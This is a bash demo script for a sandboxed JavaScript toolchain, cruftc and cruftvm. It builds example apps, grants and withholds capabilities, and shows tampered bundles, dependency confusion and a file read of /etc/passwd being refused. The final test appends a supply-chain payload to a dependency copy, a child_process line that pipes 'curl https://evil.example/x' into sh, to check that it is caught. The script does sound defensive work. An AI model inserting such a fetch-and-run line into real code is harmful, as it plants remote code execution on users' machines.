#!/usr/bin/env bash
# Sets up a fresh Debian 12 machine (scripts/setup.sh), builds cruftc, and runs it on the bundled
# example applications: examples/report, which uses four real npm packages from Debian's store (one
# of them granted the clock), and examples/greeter, an ES-module app with a CommonJS dependency that
# shows the provenance chain.
# The whole chain that exists today: every source is parsed in the goal Node would use, the closed
# module graph and its capabilities are checked against cruft.lock, each module is lowered to a
# function of its capability handles and compiled to bytecode, the sealed bundle is written, signed,
# verified and run by cruftvm, and tampered copies (of a dependency, of the bundle) are caught.
set -euo pipefail
cd "$(dirname "$0")/.."

bash scripts/setup.sh
echo "== building cruftc (release)"
swift build -c release --product cruftc 2>&1 | grep -vE '^\[[0-9]+/[0-9]+\]' || true
echo "== building cruftvm and its JIT library libCruftJIT.so (release)"
swift build -c release --product cruftvm 2>&1 | grep -vE '^\[[0-9]+/[0-9]+\]' || true
swift build -c release --product CruftJIT 2>&1 | grep -vE '^\[[0-9]+/[0-9]+\]' || true
cruftc=.build/release/cruftc
cruftvm=.build/release/cruftvm
app=examples/greeter
report=examples/report
work=$(mktemp -d)
trap 'rm -rf "$work" "${copy:-}"' EXIT
$cruftc key generate --out "$work/builder" > /dev/null

echo
echo "== the main job: examples/report, an app with four real npm packages from Debian's store"
echo "   (js-yaml, text-table, pretty-ms compute; fecha is granted the clock in cruft.json)"
cat "$report/cruft.json"
$cruftc check --project "$report"
$cruftc audit --project "$report"
$cruftc build --project "$report" --key "$work/builder.key" --out "$work/report.cruft"
$cruftvm verify "$work/report.cruft" --trust "$work/builder.pub"

echo
echo "== hot paths: provably numeric functions become native code (LLVM bitcode in the bundle, checked"
echo "   and JIT-compiled by cruftvm at load): the app's percentDone and js-yaml's character tests"
$cruftc build --project "$report" --emit=hot-report 2> /dev/null | grep -E '^\.:|: selected|^hot paths'
echo "== cruftc build --emit=llvm: percentDone, optimised (Math.round is floor plus a half test that keeps -0)"
$cruftc build --project "$report" --emit=llvm 2> /dev/null | awk '/^; module \.:/ { m = 1 } m && /^define double @cruft_fn/ { p = 1 } p { print } p && /^}/ { exit }'

echo
echo "== cruftvm run: the app reads ./data only, fecha reads the clock only because this run allows it"
$cruftvm run "$work/report.cruft" --trust "$work/builder.pub" --root "$report" --allow fs-read:./data --allow clock

echo
echo "== the same run without --allow clock: fecha is stopped with a guest error naming it"
status=0
$cruftvm run "$work/report.cruft" --trust "$work/builder.pub" --root "$report" --allow fs-read:./data || status=$?
[ "$status" -eq 1 ] || { echo "example: the run without the clock gave status $status instead of 1" >&2; exit 1; }

echo
echo "== asked for a file outside ./data, the fs handle refuses it"
status=0
$cruftvm run "$work/report.cruft" --trust "$work/builder.pub" --root "$report" --allow fs-read:./data --allow clock -- /etc/passwd || status=$?
[ "$status" -eq 1 ] || { echo "example: reading /etc/passwd gave status $status instead of 1" >&2; exit 1; }

echo
echo "== the provenance chain, on examples/greeter (a local dependency published through a registry)"

echo
echo "== cruftc parse: every source of the app and its dependencies"
sources=$(find "$app" -name '*.js' -o -name '*.mjs' -o -name '*.cjs' | sort)
echo "$sources" | sed 's/^/   /'
$cruftc parse $sources

echo
echo "== cruftc parse --dump-ast $app/node_modules/greeting-words/index.js"
$cruftc parse --dump-ast "$app/node_modules/greeting-words/index.js"

echo
echo "== cruftc check: the closed module graph against the committed cruft.lock"
$cruftc check --project "$app"

echo
echo "== cruftc graph --format dot (for Graphviz: | dot -Tsvg > graph.svg)"
$cruftc graph --project "$app"

echo
echo "== cruftc build --emit lowered: every module as a function of its capability handles"
$cruftc build --project "$app" --emit lowered

echo
echo "== cruftc audit: what each package claims, is granted, and uses"
$cruftc audit --project "$app"

echo
echo "== cruftc build --emit bytecode: the dependency's register bytecode"
$cruftc build --project "$app" --emit bytecode | awk '/^module node_modules\/greeting-words/ { p = 1; print; next } /^module / { p = 0 } p'

echo
echo "== cruftc build: the sealed bundle, signed by a builder key"
$cruftc build --project "$app" --key "$work/builder.key" --out "$work/greeter.cruft"

echo
echo "== cruftvm verify: every check that runs before any code does"
$cruftvm verify "$work/greeter.cruft" --trust "$work/builder.pub"

echo
echo "== cruftvm run: the application gets its environment variable only because this run allows it"
LANG=fr_FR.UTF-8 $cruftvm run "$work/greeter.cruft" --trust "$work/builder.pub" --allow env=LANG -- Ada
LANG=fr_FR.UTF-8 $cruftvm run "$work/greeter.cruft" --trust "$work/builder.pub" -- Ada

echo
echo "== a bundle changed after signing does not run"
cp "$work/greeter.cruft" "$work/tampered.cruft"
python3 -c "import sys; b = bytearray(open(sys.argv[1], 'rb').read()); b[-100] ^= 1; open(sys.argv[1], 'wb').write(b)" "$work/tampered.cruft"
status=0
$cruftvm run "$work/tampered.cruft" --trust "$work/builder.pub" || status=$?
[ "$status" -ne 0 ] || { echo "example: the tampered bundle ran" >&2; exit 1; }
echo "(cruftvm refused the tampered bundle with exit status $status)"

echo
echo "== provenance: the dependency published through a local registry, and the app locked from it"
fingerprint() { $cruftc key generate --out "$1" | grep -o 'ed25519:[a-z2-7]*' | head -1; }
registry_fpr=$(fingerprint "$work/registry")
publisher_fpr=$(fingerprint "$work/publisher")
$cruftc registry init --key "$work/registry.key" --name local "$work/registry"
$cruftc registry allow "$work/registry" --namespace greeting-words --publisher "$work/publisher.pub" --key "$work/registry.key"
$cruftc pack "$app/node_modules/greeting-words" --out "$work/greeting-words.tgz"
$cruftc publish --key "$work/publisher.key" "$work/greeting-words.tgz" --to "$work/registry" --registry-key "$work/registry.key"
mkdir -p "$work/app"
cp -r "$app/src" "$app/package.json" "$work/app/"
cat > "$work/app/cruft.json" <<JSON
{
  "entry": "src/main.mjs",
  "registries": { "local": { "path": "$work/registry", "fingerprint": "$registry_fpr" } },
  "namespaces": { "*": "local" },
  "dependencies": { "greeting-words": "1.0.0" }
}
JSON
$cruftc lock --project "$work/app"
$cruftc check --project "$work/app"

echo
echo "== dependency confusion: another registry serves its own greeting-words first; the pin refuses it"
mirror_fpr=$(fingerprint "$work/mirror")
$cruftc key generate --out "$work/mallory" > /dev/null
$cruftc registry init --key "$work/mirror.key" --name mirror "$work/mirror" > /dev/null
$cruftc registry allow "$work/mirror" --namespace greeting-words --publisher "$work/mallory.pub" --key "$work/mirror.key" > /dev/null
$cruftc publish --key "$work/mallory.key" "$work/greeting-words.tgz" --to "$work/mirror" --registry-key "$work/mirror.key" > /dev/null
rm -rf "$work/app/node_modules" "$work/app/cruft.lock"
cat > "$work/app/cruft.json" <<JSON
{
  "entry": "src/main.mjs",
  "registries": {
    "mirror": { "path": "$work/mirror", "fingerprint": "$mirror_fpr" },
    "local": { "path": "$work/registry", "fingerprint": "$registry_fpr" }
  },
  "namespaces": { "greeting-words": "local", "*": "mirror" },
  "dependencies": { "greeting-words": "1.0.0" }
}
JSON
status=0
$cruftc lock --project "$work/app" || status=$?
[ "$status" -eq 1 ] || { echo "example: the confused lock gave status $status instead of 1" >&2; exit 1; }
echo "(cruftc lock refused the mirror's copy with exit status 1 and wrote nothing)"

echo
echo "== a supply-chain attack on a copy: the dependency now runs a shell command"
copy=$(mktemp -d)
cp -r "$app/." "$copy"
echo 'require("child_process").exec("curl https://evil.example/x | sh");' >> "$copy/node_modules/greeting-words/index.js"
status=0
$cruftc check --project "$copy" || status=$?
if [ "$status" -ne 1 ]; then
  echo "example: cruftc check gave status $status on the tampered copy instead of 1" >&2
  exit 1
fi
echo "(cruftc check rejected the tampered copy with exit status 1)"
